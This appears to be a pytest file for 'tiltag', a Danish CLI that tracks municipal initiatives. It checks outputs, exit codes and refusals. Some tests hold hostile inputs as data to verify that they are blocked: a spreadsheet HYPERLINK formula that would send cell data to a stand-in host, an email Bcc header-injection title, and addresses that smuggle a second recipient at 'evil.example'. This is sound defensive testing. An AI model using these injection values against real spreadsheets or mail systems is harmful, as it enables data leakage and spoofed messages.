"""The `tiltag` command: exact output and errors, exit codes, nothing changed on refusal."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, text

from tests.conftest import Invoke
from tests.helpers import Desk
from workflow.cli import cli
from workflow.storage.database import SCHEMA_REVISION

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def cast(run: Invoke) -> Invoke:
    """The CLI on a database with people in it."""
    assert (
        run(
            "people", "add", "admin", "--name", "Admin", "--email", "it@k.dk", "--role", "admin"
        ).exit_code
        == 0
    )
    for handle, name, role in [
        ("aase", "Åse Møller", "proposer"),
        ("ulla", "Ulla Krogh", "project_owner"),
        ("jens", "Jens Holm", "chief_group"),
        ("hanne", "Hanne Ravn", "task_force"),
    ]:
        result = run(
            "people",
            "add",
            handle,
            "--name",
            name,
            "--email",
            f"{handle}@k.dk",
            "--role",
            role,
            actor="admin",
        )
        assert result.exit_code == 0, result.stderr
    return run


def go(run: Invoke, id_: int) -> None:
    """The chief group's go at the initiative's gate, recorded by jens."""
    result = run(
        "decide",
        str(id_),
        "chief_group",
        "go",
        "--meeting",
        "2010-08-18",
        "--reference",
        "Chefgruppen 18.08.2010, pkt. 4",
        "--justification",
        "Optages i handlekataloget.",
        actor="jens",
    )
    assert result.exit_code == 0, result.stderr


def propose(run: Invoke, *extra: str) -> int:
    result = run("propose", "Robotstøvsugere i ældreplejen", *extra, actor="aase")
    assert result.exit_code == 0, result.stderr
    return int(result.stdout.split()[2].rstrip(":"))


def test_propose_show_and_history_round_trip_danish_letters(cast: Invoke) -> None:
    result = cast(
        "propose",
        "Robotstøvsugere i ældreplejen",
        "--category",
        "arbejdsgange",
        "--area",
        "Ældre og Sundhed",
        "--owner",
        "ulla",
        "--description",
        "Frigør tid til omsorg.",
        actor="aase",
    )
    assert (result.exit_code, result.stdout) == (
        0,
        "Proposed initiative 1: Robotstøvsugere i ældreplejen\n",
    )
    shown = cast("show", "1")
    assert shown.exit_code == 0
    assert "Tiltag 1: Robotstøvsugere i ældreplejen" in shown.stdout
    assert "område / area:         Ældre og Sundhed" in shown.stdout
    assert "arbejdsgange (Ændrede arbejdsgange / Changed work routines)" in shown.stdout
    data = json.loads(cast("show", "1", "--format", "json").stdout)
    assert (data["title"], data["area"], data["state"], data["version"]) == (
        "Robotstøvsugere i ældreplejen",
        "Ældre og Sundhed",
        "screening",
        1,
    )
    assert cast("history", "1").stdout == (
        "2010-08-18 09:00 UTC  v1   aase         oprettet / created in screening "
        "(Screening af potentielle tiltag / Screening of potential initiatives)  [cli: drift]\n"
    )


def test_advance_and_check(cast: Invoke) -> None:
    id_ = propose(cast, "--category", "arbejdsgange", "--description", "Frigør tid.")
    check = cast("check", str(id_), actor="jens")
    assert check.exit_code == 0
    assert (
        "  select -> business_case  (Optag i handlekataloget / Select for the action "
        "catalogue)  [kan ikke endnu / not yet]" in check.stdout
    )
    assert (
        "    [x] udfyldt: beskrivelse, kategori / filled in: description, category" in check.stdout
    )
    assert (
        "    [ ] mangler beslutning: Chefgruppen / missing decision: the chief group"
        in check.stdout
    )
    go(cast, id_)
    check = cast("check", str(id_), actor="jens")
    assert (
        "  select -> business_case  (Optag i handlekataloget / Select for the action "
        "catalogue)  [kan / possible]" in check.stdout
    )
    assert "    [x] godkendt af Chefgruppen / approved by the chief group" in check.stdout
    moved = cast("advance", str(id_), "select", actor="jens")
    assert (moved.exit_code, moved.stdout) == (
        0,
        f"Initiative {id_}: screening -> business_case (version 3)\n",
    )
    assert "select: screening -> business_case" in cast("history", str(id_)).stdout


def test_unmet_requirements_exit_1_with_the_list(cast: Invoke) -> None:
    id_ = propose(cast)
    result = cast("advance", str(id_), "select", actor="jens")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == (
        f"Error: initiative {id_} cannot select (screening -> business_case): "
        "mangler: beskrivelse, kategori / missing: description, category; "
        "mangler beslutning: Chefgruppen / missing decision: the chief group\n"
    )
    assert cast("show", str(id_), "--format", "json").stdout.count('"version": 1') == 1


def test_an_unknown_trigger_exits_1_listing_the_valid_ones(cast: Invoke) -> None:
    id_ = propose(cast)
    result = cast("advance", str(id_), "launch", actor="jens")
    assert (result.exit_code, result.stderr) == (
        1,
        f"Error: initiative {id_} is in state screening; 'launch' is not a move from there. "
        "Valid moves: select, reject, hold, withdraw\n",
    )


def test_an_unknown_initiative_exits_1(cast: Invoke) -> None:
    for args in (
        ("show", "99"),
        ("history", "99"),
        ("advance", "99", "select"),
        ("check", "99"),
        ("edit", "99", "area=x"),
    ):
        result = cast(*args, actor="jens")
        assert (result.exit_code, result.stderr) == (1, "Error: no initiative with id 99\n"), args


def test_an_unknown_actor_exits_1_and_no_actor_exits_2(cast: Invoke) -> None:
    result = cast("propose", "Noget nyt", actor="mallory")
    assert (result.exit_code, result.stderr) == (
        1,
        "Error: unknown person 'mallory' (see: tiltag people list)\n",
    )
    result = cast("propose", "Noget nyt")
    assert (result.exit_code, result.stderr) == (
        2,
        "Error: who is acting? give --as HANDLE or set TILTAG_USER\n",
    )
    assert cast("list", "--format", "json").stdout == "[]\n"


@pytest.mark.parametrize(
    "title",
    ["Udbud\nBcc: alle@kommune.dk", "Udbud\rX", "Udbud\x1b[31m", "Udbud\x00", "   "],
)
def test_a_title_with_control_characters_is_refused(cast: Invoke, title: str) -> None:
    result = cast("propose", title, actor="aase")
    assert result.exit_code == 1
    assert result.stderr in (
        "Error: invalid title: must be one line without control characters\n",
        "Error: invalid title: must not be empty\n",
    )
    assert cast("list", "--format", "json").stdout == "[]\n"


def test_edit_needs_field_equals_value(cast: Invoke) -> None:
    id_ = propose(cast)
    result = cast("edit", str(id_), "area", actor="ulla")
    assert result.exit_code == 2
    assert "'area' is not FIELD=VALUE" in result.stderr
    result = cast("edit", str(id_), "budget=7", actor="aase")
    assert (result.exit_code, result.stderr) == (
        1,
        "Error: invalid budget: not a field that can be edited; "
        "fields: title, description, category, owner, area\n",
    )
    result = cast("edit", str(id_), "area=Ældre", "owner=ulla", actor="aase")
    assert (result.exit_code, result.stdout) == (0, f"Initiative {id_} is at version 2\n")


def test_a_stale_expected_version_is_a_conflict(cast: Invoke) -> None:
    id_ = propose(cast, "--category", "arbejdsgange", "--description", "Frigør tid.")
    go(cast, id_)  # so that only the version stands in the way
    assert cast("edit", str(id_), "area=Ældre", actor="aase").exit_code == 0
    result = cast("advance", str(id_), "select", "--expect-version", "2", actor="jens")
    assert (result.exit_code, result.stderr) == (
        1,
        f"Error: initiative {id_} changed since you read it (you read version 2); "
        "nothing was written, look again and retry\n",
    )
    assert "select" not in cast("history", str(id_)).stdout


def test_list_filters_and_formats(cast: Invoke) -> None:
    propose(cast, "--category", "arbejdsgange", "--owner", "ulla")
    cast("propose", "Udbud af revision", "--category", "indkoeb", actor="aase")
    table = cast("list", "--category", "indkoeb")
    assert table.stdout.splitlines() == [
        "ID    STATE               CATEGORY            OWNER       AREA            TITLE",
        "2     screening           indkoeb             -           -               "
        "Udbud af revision",
    ]
    csv_out = cast("list", "--owner", "ulla", "--format", "csv").stdout.splitlines()
    assert csv_out[0] == "id,state,category,owner,area,title,workflow,version,entered_state_at"
    assert csv_out[1].startswith("1,screening,arbejdsgange,ulla,,Robotstøvsugere i ældreplejen,")
    rows = json.loads(cast("list", "--state", "screening", "--format", "json").stdout)
    assert [r["id"] for r in rows] == [1, 2]
    assert cast("list", "--format", "xml").exit_code == 2


def test_people_add_needs_an_admin_after_the_first(cast: Invoke) -> None:
    result = cast("people", "add", "eve", "--name", "Eve", "--email", "eve@k.dk", actor="aase")
    assert (result.exit_code, result.stderr) == (
        1,
        "Error: only an admin may add people (give --as an admin)\n",
    )
    result = cast(
        "people",
        "add",
        "eve",
        "--name",
        "Eve",
        "--email",
        "eve@k.dk",
        "--role",
        "mayor",
        actor="admin",
    )
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: invalid role: unknown role mayor; known roles: ")
    listing = cast("people", "list").stdout
    assert "Åse Møller" in listing
    assert "eve" not in listing


def test_definitions_commands(tmp_path: Path) -> None:
    runner = CliRunner()
    listed = runner.invoke(cli, ["definitions", "list"])
    assert [line.split()[0] for line in listed.stdout.splitlines()] == [
        "effektivisering@1",
        "proevehandling@1",
    ]
    shown = runner.invoke(cli, ["definitions", "show", "effektivisering"])
    assert "  resume: on_hold -> previous  (Genoptag / Resume)" in shown.stdout
    checked = runner.invoke(cli, ["definitions", "check"])
    assert checked.exit_code == 0
    assert checked.stdout.splitlines() == [
        f"ok {ROOT / 'definitions' / 'schedule.yaml'}: schedule, 1 configured status deadlines, "
        "reminders 10, 3 working days before",
        f"ok {ROOT / 'definitions' / 'targets.yaml'}: targets for 2010, 2011, 2012, 2013",
        f"ok {ROOT / 'definitions' / 'effektivisering.yaml'}: effektivisering@1, "
        "10 states, 10 transitions",
        f"ok {ROOT / 'definitions' / 'proevehandling.yaml'}: proevehandling@1, "
        "9 states, 9 transitions",
    ]
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "name: x\nversion: 1\nstates:\n  a:\n    label: {da: A, en: A}\n    colour: red\n"
    )
    result = runner.invoke(
        cli, ["definitions", "check", str(ROOT / "definitions" / "effektivisering.yaml"), str(bad)]
    )
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {bad}:6: unknown key 'colour' in state 'a'; allowed keys: "
        "label, initial, final, stall_after_days, quarterly_status, counts_gains, "
        "benefits_follow_up, description\n"
    )


def test_a_file_that_is_not_a_database_is_refused_and_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "notes.db"
    content = b"Referat fra chefgruppemoedet 18.08.2010\n" * 200
    path.write_bytes(content)
    result = CliRunner().invoke(cli, ["list", "--database", str(path)])
    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: cannot open {path} as a tiltag database: file is not a database\n"
    )
    assert path.read_bytes() == content
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.db"]


def test_a_missing_or_uninitialised_database(tmp_path: Path) -> None:
    missing = tmp_path / "none.db"
    result = CliRunner().invoke(cli, ["list", "--database", str(missing)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"Error: no database at {missing}; create it with: tiltag init\n",
    )
    assert not missing.exists()
    empty = tmp_path / "empty.db"
    empty.touch()
    result = CliRunner().invoke(cli, ["show", "1", "--database", str(empty)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"Error: {empty} is not initialised; run: tiltag init\n",
    )
    assert empty.read_bytes() == b""


def test_init_creates_and_is_idempotent(tmp_path: Path) -> None:
    path = tmp_path / "sub" / "t.db"
    first = CliRunner().invoke(cli, ["init", "--database", str(path)])
    assert (first.exit_code, first.stdout) == (
        0,
        f"{path} is ready (schema none -> {SCHEMA_REVISION})\n",
    )
    again = CliRunner().invoke(cli, ["db", "upgrade", "--database", str(path)])
    assert (again.exit_code, again.stdout) == (
        0,
        f"{path} is up to date (schema {SCHEMA_REVISION})\n",
    )


def test_wrong_usage_exits_2() -> None:
    runner = CliRunner()
    assert runner.invoke(cli, ["advance"]).exit_code == 2
    assert runner.invoke(cli, ["show", "abc"]).exit_code == 2
    assert runner.invoke(cli, ["frobnicate"]).exit_code == 2
    result = runner.invoke(
        cli, ["--now", "yesterday", "propose", "x", "--as", "a", "--database", "/nonexistent/x.db"]
    )
    assert result.exit_code == 2


def test_json_logs_one_event_per_transition(cast: Invoke, database_url: str) -> None:
    id_ = propose(cast, "--category", "arbejdsgange", "--description", "Frigør tid.")
    go(cast, id_)
    result = CliRunner().invoke(
        cli,
        ["--log-format", "json", "--log-level", "info", "advance", str(id_), "select"],
        env={
            "TILTAG_DATABASE_URL": database_url,
            "TILTAG_USER": "jens",
            "TILTAG_NOW": "2010-08-25",
        },
    )
    assert result.exit_code == 0
    events = [json.loads(line) for line in result.stderr.splitlines()]
    assert [
        (e["event"], e["trigger"], e["from_state"], e["to_state"], e["actor"]) for e in events
    ] == [("transition", "select", "screening", "business_case", "jens")]


def _commands(group: click.Group, prefix: str = "tiltag") -> list[tuple[str, click.Command]]:
    found = []
    for name, command in sorted(group.commands.items()):
        path = f"{prefix} {name}"
        if isinstance(command, click.Group):
            found += _commands(command, path)
        else:
            found.append((path, command))
    return found


COMMANDS = _commands(cli)


@pytest.mark.parametrize("path,command", COMMANDS, ids=[p for p, _ in COMMANDS])
def test_every_command_has_help_with_an_example_and_is_documented(
    path: str, command: click.Command
) -> None:
    assert command.help and "Example:" in command.help
    docs = (ROOT / "docs" / "cli.md").read_text(encoding="utf-8")
    assert f"## {path}\n" in docs


def test_help_does_not_load_the_database_layer() -> None:
    # Nor what only some commands need when they run: the models (pydantic), the definitions
    # (yaml), the mail (jinja2), time zones, JSON, writing files (tempfile), the PDF (weasyprint).
    code = (
        "import sys; sys.argv = ['tiltag', '--help']\n"
        "import cli\n"
        "try:\n    cli.main()\nexcept SystemExit:\n    pass\n"
        "loaded = [m for m in sys.modules if m.split('.')[0] in "
        "('sqlalchemy', 'sqlmodel', 'alembic', 'psycopg', 'transitions', 'structlog', "
        "'pydantic', 'yaml', 'jinja2', 'zoneinfo', 'json', 'tempfile', 'weasyprint')]\n"
        "print(loaded)"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True
    ).stdout
    assert "Usage: tiltag" in out
    assert out.strip().endswith("[]")


def test_the_demo_builds_a_portfolio_and_replaces_its_sqlite_file(tmp_path: Path) -> None:
    path = tmp_path / "demo.db"
    result = CliRunner().invoke(cli, ["demo", "--database", str(path)])
    assert result.exit_code == 0, result.stderr
    headings = [line for line in result.stdout.splitlines() if line.startswith("== ")]
    assert headings == [
        "== Personer / people ==",
        "== tiltag list: portefølje / portfolio (11 proposals, 59 decisions, records and moves) ==",
        "== tiltag record show 1 business_case ==",
        "== business case ==",
        "== tiltag decisions 1 ==",
        "== tiltag history 1 ==",
        "== tiltag check 5 --as soeren ==",
        "== tiltag waiting chief_group ==",
        "== tiltag history 12: the trial scaled into the main lifecycle ==",
        "== tiltag status list 2 ==",
        "== tiltag remind --as-of 2010-09-02: the quarter's first reminders ==",
        "== Husk status: Udbud af revision (3. kvartal 2010) ==",
        "== tiltag remind --as-of 2011-12-01 --dry-run: initiative 1 is realised, its gains "
        "expected until 2012: benefits follow-up ==",
        "== tiltag report stalled: what the task force chases on 2010-09-02 ==",
        "== Tiltag der står stille ==",
        "== tiltag report gains: the strategy's targets against the gains ==",
        "== Pr. år ==",
        "== Pr. område ==",
    ]
    assert "Robotstøvsugere i ældreplejen" in result.stdout
    listed = CliRunner().invoke(cli, ["list", "--format", "json", "--database", str(path)])
    states = [row["state"] for row in json.loads(listed.stdout)]
    assert {"realised", "rejected", "withdrawn", "on_hold", "screening", "scaled"} <= set(states)
    url = f"sqlite:///{path}"
    again = CliRunner().invoke(cli, ["demo", "--database", url])
    assert again.exit_code == 0  # its own SQLite file is replaced


@pytest.mark.parametrize("content", [b"notes, not a database", None])
def test_the_demo_never_replaces_a_file_it_did_not_make(
    tmp_path: Path, content: bytes | None
) -> None:
    path = tmp_path / "tiltag.db"
    if content is None:  # a real tiltag database, in use
        assert CliRunner().invoke(cli, ["init", "--database", str(path)]).exit_code == 0
    else:
        path.write_bytes(content)
    before = path.read_bytes()
    result = CliRunner().invoke(cli, ["demo", "--database", str(path)])
    assert (result.exit_code, result.stderr) == (
        1,
        f"Error: the demo replaces only a database it made itself, and {path} is another file; "
        "give --database a new file\n",
    )
    assert path.read_bytes() == before


def test_now_is_checked_before_any_command_runs() -> None:
    result = CliRunner().invoke(cli, ["--now", "yesterday", "definitions", "list"])
    assert result.exit_code == 2
    assert "'yesterday' is not an ISO date or time" in result.stderr


def test_the_first_person_is_added_whoever_tiltag_user_names(run: Invoke) -> None:
    result = run(
        "people",
        "add",
        "admin",
        "--name",
        "Admin",
        "--email",
        "it@k.dk",
        "--role",
        "admin",
        actor="someone-else",
    )
    assert (result.exit_code, result.stdout) == (0, "Added Admin (admin): admin\n")
    result = run("people", "add", "eve", "--name", "Eve", "--email", "e@k.dk", actor="someone-else")
    assert (result.exit_code, result.stderr) == (
        1,
        "Error: unknown person 'someone-else' (see: tiltag people list)\n",
    )


def test_definitions_check_refuses_two_files_with_one_name_and_version(tmp_path: Path) -> None:
    source = (ROOT / "definitions" / "effektivisering.yaml").read_text(encoding="utf-8")
    (tmp_path / "a.yaml").write_text(source, encoding="utf-8")
    (tmp_path / "b.yaml").write_text(source, encoding="utf-8")
    result = CliRunner().invoke(cli, ["--definitions", str(tmp_path), "definitions", "check"])
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {tmp_path / 'b.yaml'}: effektivisering@1 is also defined in "
        f"{tmp_path / 'a.yaml'}\n"
    )
    missing = CliRunner().invoke(
        cli, ["--definitions", str(tmp_path / "x"), "definitions", "check"]
    )
    assert (missing.exit_code, missing.stderr) == (
        2,
        f"Error: definitions folder {tmp_path / 'x'} does not exist\n",
    )


def test_a_database_from_a_newer_tiltag_is_refused(tmp_path: Path) -> None:
    from sqlalchemy import text

    from workflow.storage.database import connect

    path = tmp_path / "t.db"
    assert CliRunner().invoke(cli, ["init", "--database", str(path)]).exit_code == 0
    engine = connect(str(path))
    with engine.begin() as conn:
        conn.execute(text("UPDATE alembic_version SET version_num = '0099'"))
    engine.dispose()
    result = CliRunner().invoke(cli, ["list", "--database", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"Error: {path} is at schema 0099, made by a newer tiltag than this one "
        f"(which knows schema {SCHEMA_REVISION}); use the newer tiltag\n",
    )


def test_a_database_error_on_the_path_of_a_move_is_one_line_and_rolls_back(
    cast: Invoke, engine: Engine
) -> None:
    id_ = propose(cast)
    with engine.begin() as conn:
        conn.execute(text("ALTER TABLE event RENAME TO event_gone"))
    try:
        result = cast("advance", str(id_), "withdraw", actor="aase")
        assert result.exit_code == 1
        assert result.stderr.startswith("Error: database error: ")
        assert "event" in result.stderr and len(result.stderr.splitlines()) == 1
    finally:
        with engine.begin() as conn:
            conn.execute(text("ALTER TABLE event_gone RENAME TO event"))
    assert cast("show", str(id_)).stdout.count("screening") == 1


@pytest.mark.parametrize("given", ["0", str(2**31)])
def test_an_id_out_of_range_is_wrong_usage(cast: Invoke, given: str) -> None:
    result = cast("show", given)
    assert result.exit_code == 2
    assert "is not in the range 1<=x<=2147483647" in result.stderr


def test_init_adds_nothing_to_a_database_that_belongs_to_something_else(tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "budget.db"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE budget (year INTEGER, amount INTEGER)")
    before = path.read_bytes()
    result = CliRunner().invoke(cli, ["init", "--database", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"Error: {path} holds tables that are not tiltag's (budget); give a new or empty "
        "database\n",
    )
    assert path.read_bytes() == before


def test_a_title_that_looks_like_a_formula_stays_text_in_csv(cast: Invoke) -> None:
    import csv
    import io

    title = '=HYPERLINK("http://x.example/?"&A1,"Klik")'
    assert cast("propose", title, actor="aase").exit_code == 0
    rows = list(csv.DictReader(io.StringIO(cast("list", "--format", "csv").stdout)))
    assert rows[-1]["title"] == "'" + title
    shown = json.loads(cast("list", "--format", "json").stdout)
    assert shown[-1]["title"] == title  # only the spreadsheet format is guarded


def test_a_file_checked_alone_may_create_in_a_definition_of_the_folder(tmp_path: Path) -> None:
    trial = ROOT / "definitions" / "proevehandling.yaml"
    result = CliRunner().invoke(cli, ["definitions", "check", str(trial)])
    assert (result.exit_code, result.stderr) == (0, "")
    broken = tmp_path / "trial.yaml"
    broken.write_text(
        trial.read_text(encoding="utf-8").replace("creates: effektivisering", "creates: nowhere"),
        encoding="utf-8",
    )
    result = CliRunner().invoke(cli, ["definitions", "check", str(broken)])
    assert result.exit_code == 1
    lines = trial.read_text(encoding="utf-8").splitlines()
    line = lines.index("  - trigger: scale") + 1
    assert result.stderr.startswith(
        f"Error: {broken}:{line}: transition 'scale' creates initiatives in 'nowhere', which no "
        "definition in the folder is called (have: effektivisering, proevehandling)"
    )


@pytest.mark.parametrize(
    "url,message",
    [
        (
            "postgresql://tiltag:hemmelig@127.0.0.1:abc/x",
            "Error: not a database URL: 'postgresql://tiltag:***@127.0.0.1:abc/x' (invalid literal "
            "for int() with base 10: 'abc')\n",
        ),
        (
            "mysql://tiltag:hemmelig@db/x",
            "Error: cannot use database mysql://tiltag:***@db/x: No module named 'MySQLdb'\n",
        ),
    ],
)
def test_a_bad_database_url_is_wrong_usage_and_never_shows_the_password(
    url: str, message: str
) -> None:
    result = CliRunner().invoke(cli, ["list", "--database", url])
    assert (result.exit_code, result.stderr) == (2, message)


def test_init_where_no_file_can_be_made_is_wrong_usage(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("", encoding="utf-8")
    target = blocker / "tiltag.db"
    result = CliRunner().invoke(cli, ["init", "--database", str(target)])
    assert result.exit_code == 2
    assert result.stderr.startswith(f"Error: cannot create {target}: ")


@pytest.mark.parametrize(
    "email",
    [
        "a\x00b@k.dk",
        "x" * 65 + "@k.dk",
        "a@" + "k" * 250 + ".dk",
        "tove,mallory@evil.example",  # one address that would be two recipients
        "tove@k.dk>, <mallory@evil.example",
        '"tove lind"@k.dk',
    ],
)
def test_an_email_with_control_characters_or_too_long_is_refused(cast: Invoke, email: str) -> None:
    result = cast("people", "add", "zed", "--name", "Zed", "--email", email, actor="admin")
    assert result.exit_code == 1
    assert "is not an email address" in result.stderr


def test_a_reader_that_stops_early_ends_the_listing_quietly(
    tmp_path: Path, engine: Engine, desk: Desk, database_url: str
) -> None:
    for n in range(800):
        desk.propose(title=f"Tiltag nummer {n} med en titel lang nok til at fylde en linje")
    env = {**os.environ, "TILTAG_DATABASE_URL": database_url}
    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env['PATH']}"
    done = subprocess.run(
        ["bash", "-c", "set -o pipefail; tiltag list | head -n 2"],
        capture_output=True, text=True, env=env,
    )  # fmt: skip
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.splitlines()[1].startswith("1 ")
